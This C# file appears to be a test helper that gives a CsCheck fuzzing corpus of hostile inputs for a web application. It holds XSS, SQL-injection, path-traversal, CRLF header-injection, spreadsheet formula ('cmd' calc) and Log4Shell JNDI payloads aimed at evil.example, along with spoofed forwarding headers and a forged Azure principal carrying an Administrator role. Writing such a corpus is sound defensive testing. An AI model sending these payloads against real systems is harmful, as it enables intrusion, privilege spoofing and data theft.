using System.Text;
using CsCheck;

namespace Directives.Tests.Hostile;

/// <summary>What is thrown at fields, addresses and heads: a corpus of what has broken programs before, and whatever comes to mind.</summary>
internal static class HostileValues
{
    /// <summary>Would show in an answer's head, if a line break in a value began one there.</summary>
    public const string Injected = "X-Injected";

    public static readonly string[] Corpus =
    [
        "", " ", "\0", "\r\n" + Injected + ": yes", "a\r\n\r\n<script>alert(1)</script>", "%0d%0a" + Injected + ":%20yes", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "' OR '1'='1", "1; DROP TABLE Sheets;--", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "/etc/passwd", "C:\\x", "file:///etc/passwd",
        "//evil.example", "https://evil.example/", "/\\evil.example", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=cmd|' /C calc'!A0", "{{7*7}}", "${jndi:ldap://evil.example/x}", "#{7*7}", "<%= 7*7 %>",
        "\u202edcba", "\u2066x", "\ufeff", "\u0000\u0001\u0007", "\ud800", "\udfff\ud800", "\ufffe", "e\u0301\u0301\u0301\u0301", "ẤẤẤ", "𝒜", "٣٤", "ﷺ", "\u2028",
        "0", "-0", "00", "2147483647", "2147483648", "-2147483649", "9223372036854775808", "1e400", "NaN", "Infinity", "0x10", "1,5", "true", "null", "undefined", "[]", "{}",
        "0001-01-01", "9999-12-31", "2023-02-30", "10000-01-01", "31/04/2023", "2023-04-20T25:61:61Z", "1969-12-31", "2023-05-08", "8/5/2023",
        "112.monitor", "113.monitor", "m113", "office", "boss", "02-QD-TU.2023-04", "112|113", "~0000", "112.monitor|!", "!", "t|0000000001", "*", "%", "_", "?", "#", ";", "&a=b",
        "victim@place.example\r\nBcc: all@place.example", "a@place.example,b@place.example", "\"x\" <y@place.example>", "con", "nul.txt", ".", "..", "...", "a/b", "a\\b",
        "__proto__", "constructor", "$where", "(?:a+)+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    ];

    /// <summary>Any value for a field.</summary>
    public static readonly Gen<string> Field = Gen.Frequency(
        (6, Gen.Int[0, Corpus.Length - 1].Select(i => Corpus[i])),
        (2, Gen.String[0, 60]),
        (1, Gen.Int.Select(i => i.ToString(System.Globalization.CultureInfo.InvariantCulture))),
        (1, Gen.Int[1, 5].Select(i => new string('ấ', i * 4000))));

    /// <summary>Heads that try to be somebody else, elsewhere, or another request.</summary>
    public static readonly (string Name, string Value)[] Heads =
    [
        ("Host", "evil.example"), ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "https"), ("Forwarded", "for=127.0.0.1;host=evil.example"),
        ("X-HTTP-Method-Override", "DELETE"), ("X-Original-URL", "/office"), ("X-Rewrite-URL", "/office"), ("Origin", "https://evil.example"), ("Referer", "https://evil.example/"),
        ("X-MS-CLIENT-PRINCIPAL-ID", "office"), ("X-MS-CLIENT-PRINCIPAL-NAME", "office@place.example"), ("X-MS-CLIENT-PRINCIPAL", Principal()), ("Authorization", "Bearer x.y.z"),
        ("Content-Encoding", "gzip"), ("Accept-Language", "*;q=NaN, en;q=2,,,"), ("Accept-Language", new string(',', 4000)), ("Range", "bytes=0-18446744073709551615"),
        ("If-None-Match", "*, \"x\", W/"), ("Expect", "100-continue"), ("User-Agent", "\u00ff<script>alert(1)</script>"), ("Cookie", "lang=<script>; lang=en; session=; session=AAAA; form=x"),
        ("X-Real-IP", "127.0.0.1"), ("Traceparent", "00-zz-zz-00"), ("Sec-Fetch-Site", "cross-site"),
    ];

    /// <summary>Bytes that are no UTF-8.</summary>
    public static readonly byte[][] NoText = [[0xff, 0xfe], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x80], [0xe1, 0xba]];

    /// <summary>JSON so deep.</summary>
    public static byte[] Deep(string open, string close, int levels) =>
        Encoding.ASCII.GetBytes(new StringBuilder().Insert(0, open, levels).Append('1').Insert(open.Length * levels + 1, close, levels).ToString());

    private static string Principal() => Convert.ToBase64String(Encoding.UTF8.GetBytes(
        """{"auth_typ":"aad","claims":[{"typ":"oid","val":"office"},{"typ":"tid","val":"x"},{"typ":"preferred_username","val":"office@place.example"},{"typ":"roles","val":"Administrator"}]}"""));
}
